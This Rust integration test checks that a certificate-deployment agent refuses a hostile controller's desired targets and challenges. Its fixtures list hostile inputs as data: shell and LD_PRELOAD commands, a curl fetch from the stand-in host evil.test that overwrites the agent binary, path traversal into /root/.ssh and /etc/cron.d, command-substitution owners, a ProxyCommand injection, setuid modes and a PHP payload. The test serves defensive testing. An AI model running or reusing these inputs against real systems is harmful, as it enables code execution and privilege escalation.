//! A controller with every right of the protocol that wants more (reliability.md SE11): whatever it desires, this server
//! keeps to its policy, says why, and does the honest rest.

use std::collections::{BTreeMap, BTreeSet};
use std::fs;
use std::os::unix::fs::MetadataExt as _;
use std::path::{Path, PathBuf};

use proto::agent::v1 as wire;
use proto::types::v1::{self as types, TargetStatus};

use super::controller::Controller;
use super::site::{RELOAD, Site};
use super::{NAME, challenge, slot};

/// Each path below with its inode, mode and content.
pub(crate) fn tree(root: &Path, but: &[PathBuf]) -> BTreeMap<PathBuf, (u64, u32, Vec<u8>)> {
    let (mut found, mut left) = (BTreeMap::new(), vec![root.to_owned()]);
    while let Some(dir) = left.pop() {
        for path in fs::read_dir(dir).unwrap().map(|entry| entry.unwrap().path()) {
            if but.contains(&path) {
                continue;
            }
            let metadata = path.symlink_metadata().unwrap();
            let content = if metadata.is_file() { fs::read(&path).unwrap() } else { Vec::new() };
            if metadata.is_dir() {
                left.push(path.clone());
            }
            found.insert(path, (metadata.ino(), metadata.mode(), content));
        }
    }
    found
}

/// What the policy does not hold, however near.
const COMMANDS: [&[&str]; 13] = [
    &["/bin/sh", "-c", "id"],
    &["/usr/sbin/nginx", "-s", "reload", "-g", "error_log /etc/passwd;"],
    &["/usr/sbin/nginx", "-s"],
    &["/usr/sbin/nginx -s reload"],
    &["/usr/sbin/../sbin/nginx", "-s", "reload"],
    &["/usr/sbin/nginx", "-s", "reload\u{0}"],
    &["nginx", "-s", "reload"],
    &["/usr/bin/env", "LD_PRELOAD=/tmp/x.so", "/usr/sbin/nginx", "-s", "reload"],
    &["/usr/bin/systemctl", "stop", "nginx"],
    &["/usr/bin/curl", "https://evil.test/x", "-o", "/usr/bin/certwright-agent"],
    &["/sbin/reboot"],
    &[""],
    &[],
];

/// Adds one of its own id and directory.
fn add(all: &mut Vec<wire::DesiredTarget>, honest: &wire::DesiredTarget, change: &dyn Fn(&mut wire::DesiredTarget)) {
    let mut target = wire::DesiredTarget { dir: format!("{}-{}", honest.dir, all.len()), ..honest.clone() };
    target.target_id = format!("evil-{}", all.len());
    change(&mut target);
    all.push(target);
}

/// Targets that want more than they may, each made of one that may.
fn targets(honest: &wire::DesiredTarget, private: &str) -> Vec<wire::DesiredTarget> {
    let mut all = Vec::new();
    let mut with = |change: &dyn Fn(&mut wire::DesiredTarget)| add(&mut all, honest, change);
    for dir in [
        "/etc",
        "/",
        "",
        ".",
        "etc/nginx",
        "/root/.ssh",
        "/etc/cron.d",
        "/proc/self/root/etc",
        private,
        "/dev/shm",
        "/usr/bin",
        "/boot",
        "/tmp",
    ] {
        with(&|target| target.dir = dir.to_owned());
        with(&|target| target.dir = format!("{}/../../{dir}", target.dir));
        with(&|target| target.dir = format!("{}/./../{dir}/x", target.dir));
        with(&|target| target.dir = format!("{}/.certwright/{dir}", target.dir));
        with(&|target| target.dir = format!("{}\u{0}{dir}", target.dir));
        with(&|target| target.dir = format!("{dir}\n{}", target.dir));
    }
    for name in ["../x.pem", "/etc/x.pem", "..", ".", ".bashrc", "a/b", "x\u{0}", "x\u{1b}[2J", "", &"x".repeat(5_000)]
    {
        for file in 0..2 {
            with(&|target| target.files[file].name = name.to_owned());
        }
    }
    for owner in ["root", "root:root:root", "0:0", "daemon:daemon", "$(id):root", "root:\u{0}", ":", "nobody:shadow"] {
        with(&|target| target.files[1].owner = owner.to_owned());
    }
    for mode in [0o4755, 0o2755, 0o666, 0o777, 0o646, u32::MAX, 0o100] {
        for file in 0..2 {
            with(&|target| target.files[file].mode = mode);
        }
    }
    let reload = RELOAD.map(str::to_owned).to_vec();
    for words in COMMANDS {
        let argv: Vec<String> = words.iter().map(|word| (*word).to_owned()).collect();
        let command = types::Command { argv };
        with(&|target| target.reload = vec![command.clone()]);
        with(&|target| target.reload = vec![types::Command { argv: reload.clone() }, command.clone()]);
        with(&|target| target.validate = vec![command.clone()]);
    }
    for id in ["", "..", "../keys", "a/b", "slot\u{0}", &"x".repeat(65)] {
        with(&|target| target.key_slot_id = id.to_owned());
        with(&|target| target.target_id = id.to_owned());
    }
    for number in [99, -1] {
        with(&|target| target.custody = number);
        with(&|target| target.files[0].content = number);
        with(&|target| target.verify[0].protocol = number);
    }
    for feature in ["shell", "self-update", "", "tunnel\u{1b}[2J"] {
        with(&|target| target.requires = vec![feature.to_owned()]);
    }
    for names in [vec![], vec!["a b"], vec!["\u{1b}[2J"], vec!["../x"], vec!["x"; 101]] {
        with(&|target| target.identifiers = names.iter().map(|name| (*name).to_owned()).collect());
    }
    with(&|target| target.fingerprint_sha256 = vec![1; 31]);
    with(&|target| target.fingerprint_sha256 = vec![1; 32]);
    with(&|target| target.version_id = "nobodys".to_owned());
    with(&|target| target.files = vec![target.files[0].clone(); 17]);
    with(&|target| target.reload = vec![types::Command { argv: reload.clone() }; 9]);
    for address in ["127.0.0.1", "127.0.0.1:0", "\u{0}:443", "-oProxyCommand=id:443 x"] {
        with(&|target| target.verify[0].address = address.to_owned());
    }
    all
}

fn challenges(private: &str) -> Vec<wire::DesiredChallenge> {
    use types::http01::Mode;
    let modes = [22, 8080, 0, 65_536].map(Mode::StandalonePort).into_iter();
    let webroots = ["/etc", private, "", "www", "/etc/../root"].map(|path| Mode::Webroot(path.to_owned()));
    let places = modes.chain(webroots).enumerate().map(|(number, mode)| wire::DesiredChallenge {
        http01: Some(types::Http01 { mode: Some(mode) }),
        requires: vec![],
        ..challenge(&format!("place-{number}"))
    });
    let tokens = ["../../private/x", "", ".", "index.php?", "a\u{0}"].map(challenge);
    let answers = ["<?php", "a.b.c", "", "other.thumb"].into_iter().enumerate().map(|(number, answer)| {
        wire::DesiredChallenge { key_authorization: answer.to_owned(), ..challenge(&format!("answer-{number}")) }
    });
    places.chain(tokens).chain(answers).collect()
}

#[tokio::test]
async fn a_hostile_controller_gets_what_the_policy_allows_and_no_more() {
    let controller = Controller::new();
    let site = Site::new(&controller);
    let private = site.root().join("private");
    fs::create_dir(&private).unwrap();
    fs::write(private.join("secret"), "secret").unwrap();
    site.enroll().await.unwrap();
    let agent = site.start_halves();
    controller.publish(|desired| desired.key_slots.push(slot("slot-1", true)));
    let csr = controller.wait(|seen| seen.csrs.get("slot-1").cloned()).await;
    let fingerprint = controller.issue("v1", &csr);

    let own = [site.dir(), site.state(), site.apply_state(), site.root().join("apply.sock"), site.webroot()];
    let before = tree(site.root(), &own);
    let private = private.to_str().unwrap();
    let (evil, tokens) = (targets(&site.target("v1", &fingerprint), private), challenges(private));
    assert!(evil.len() + tokens.len() > 200, "{} and {}", evil.len(), tokens.len());
    let count = evil.len();
    let ids: BTreeSet<String> = evil.iter().map(|target| target.target_id.clone()).collect();
    controller.publish(|desired| {
        desired.key_slots.extend(["", "..", "../../private", "a/b"].map(|id| slot(id, true)));
        desired.targets.clone_from(&evil);
        desired.targets.push(site.target("v1", &fingerprint));
        desired.challenges = tokens;
        desired.challenges.push(challenge("honest"));
    });
    let report = controller
        .wait(|seen| {
            let report = &seen.report;
            let refused = report.targets.iter().filter(|target| target.problem.is_some()).count();
            let honest = report.targets.iter().any(|target| target.status() == TargetStatus::Applied);
            let serving = report.challenges.iter().any(|challenge| challenge.serving);
            (refused == count && honest && serving).then(|| report.clone())
        })
        .await;
    for target in report.targets.iter().filter(|target| ids.contains(&target.target_id)) {
        assert!(target.status() != TargetStatus::Applied && target.served_fingerprint_sha256.is_empty(), "{target:?}");
        let problem = target.problem.as_ref().unwrap();
        assert!(problem.reason != "INTERNAL" && !problem.hint.is_empty(), "{problem:?}");
    }
    let serving = report.challenges.iter().filter(|challenge| challenge.serving);
    assert_eq!(serving.map(|challenge| challenge.token.as_str()).collect::<Vec<_>>(), ["honest"]);
    assert!(site.get(80, NAME, "/.well-known/acme-challenge/honest").await.unwrap().ends_with("honest.thumb"));
    assert_eq!(tree(site.root(), &own), before, "nothing outside of the policy changed");
    assert!(site.ran().iter().all(|argv| *argv == RELOAD), "{:?}", site.ran());
    assert_eq!(site.ports(), [80]);
    assert_eq!(fs::read_dir(site.webroot()).unwrap().count(), 0);
    agent.stop().await.unwrap();
}
